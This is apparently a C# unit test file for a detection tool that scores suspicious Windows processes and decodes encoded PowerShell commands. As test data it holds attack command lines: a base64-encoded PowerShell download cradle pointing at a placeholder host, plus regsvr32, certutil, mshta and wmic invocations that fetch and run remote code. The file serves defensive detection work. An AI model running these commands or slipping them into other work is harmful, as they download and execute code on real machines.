using System.Text;
using NetSensor.Analyzers.Attack;
using NetSensor.Analyzers.Correlation;

namespace NetSensor.Tests.Correlation;

/// <summary>What makes a process suspicious, and what does not.</summary>
public sealed class ProcessSuspicionTests
{
    private const string System32 = @"C:\Windows\System32\";
    private static readonly string Payload = Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"));

    [Theory]
    [InlineData("-EncodedCommand")]
    [InlineData("-enc")]
    [InlineData("-e")]
    [InlineData("-ec")]
    [InlineData("/EnCoD")]
    [InlineData("–enc")] // a dash that word processors make, which PowerShell takes
    public void An_encoded_command_is_decoded_in_all_forms_that_PowerShell_takes(string option)
    {
        Assert.StartsWith("IEX (New-Object", PowerShellCommand.Decode($"powershell.exe -NoP {option} {Payload}"));
    }

    [Theory]
    [InlineData("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1")]
    [InlineData("powershell.exe -ep bypass AAAAAAAAAAAAAAAAAAAAAAAA")]
    [InlineData("powershell.exe -enc short")]
    [InlineData("powershell.exe -enc not~base~64~at~all~")]
    [InlineData("powershell.exe -enc")]
    [InlineData("")]
    public void Nothing_is_decoded_where_nothing_is_encoded(string call) => Assert.Null(PowerShellCommand.Decode(call));

    [Fact]
    public void A_document_that_begins_an_encoded_PowerShell_is_told_with_both_reasons()
    {
        var word = Told.Start(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", id: "p0");
        var shell = Told.Start(System32 + @"WindowsPowerShell\v1.0\powershell.exe", $"powershell -w hidden -enc {Payload}", parent: word);
        Assert.Equal(["begun by a document", "encoded PowerShell", "fetches code", "script on the network", "hidden window"], Names([word, shell], isTalking: true));
    }

    [Theory]
    [InlineData("rundll32.exe", "rundll32.exe", "empty rundll32")]
    [InlineData("rundll32.exe", @"rundll32.exe C:\Users\a\AppData\Local\Temp\x.dat,Start", "system program as a proxy")]
    [InlineData("regsvr32.exe", "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll", "system program as a proxy")]
    [InlineData("mshta.exe", "mshta javascript:close()", "system program as a proxy")]
    [InlineData("certutil.exe", "certutil -urlcache -f http://a.example/x x.exe", "system program as a proxy")]
    [InlineData("wmic.exe", "wmic /node:10.0.0.9 process call create calc", "system program as a proxy")]
    public void System_programs_that_run_what_they_are_given_are_told_by_their_arguments(string program, string call, string reason) =>
        Assert.Contains(reason, Names([Told.Start(System32 + program, call)], isTalking: false));

    [Theory]
    [InlineData(@"C:\Windows\System32\rundll32.exe", @"rundll32.exe shell32.dll,Control_RunDLL desk.cpl")]
    [InlineData(@"C:\Windows\System32\regsvr32.exe", @"regsvr32 /s C:\Program Files\Vendor\plugin.dll")]
    [InlineData(@"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p")]
    [InlineData(@"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe")]
    [InlineData(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -File C:\scripts\inventory.ps1")]
    [InlineData("/usr/sbin/sshd", "sshd: anna")]
    public void Ordinary_processes_are_not_suspicious(string image, string call) => Assert.Empty(Names([Told.Start(image, call)], isTalking: false));

    [Fact]
    public void A_system_program_elsewhere_is_a_masquerade() => Assert.Contains("masquerade", Names([Told.Start(@"C:\Users\Public\svchost.exe")], isTalking: false));

    [Fact]
    public void A_renamed_PowerShell_is_told_and_its_call_is_read_as_one()
    {
        var renamed = Told.Start(@"C:\tools\updater.exe", $"updater.exe -enc {Payload}") with { OriginalName = "PowerShell.EXE" };
        Assert.Equal(["encoded PowerShell", "fetches code", "renamed program"], Names([renamed], isTalking: false));
    }

    [Fact]
    public void An_ancestor_weighs_half()
    {
        var shell = Told.Start(System32 + "powershell.exe", $"powershell -enc {Payload}", id: "p0");
        var child = Told.Start(System32 + "nslookup.exe", "nslookup a.example", parent: shell);
        Assert.Equal(15, ProcessSuspicion.Of([shell, child], isTalking: false).Single(reason => reason.Name == "encoded PowerShell").Points);
    }

    [Fact]
    public void Notepad_has_nobody_to_talk_to() => Assert.Contains("has nobody to talk to", Names([Told.Start(System32 + "notepad.exe")], isTalking: true));

    [Fact]
    public void Every_reason_names_a_technique_that_exists()
    {
        foreach (var technique in Programs.Proxies.Values) Assert.Equal(technique, Assert.Single(AttackCatalog.Find(technique)).Id);
    }

    private static string[] Names(IReadOnlyList<ProcessStart> lineage, bool isTalking) => [.. ProcessSuspicion.Of(lineage, isTalking).Select(reason => reason.Name)];
}
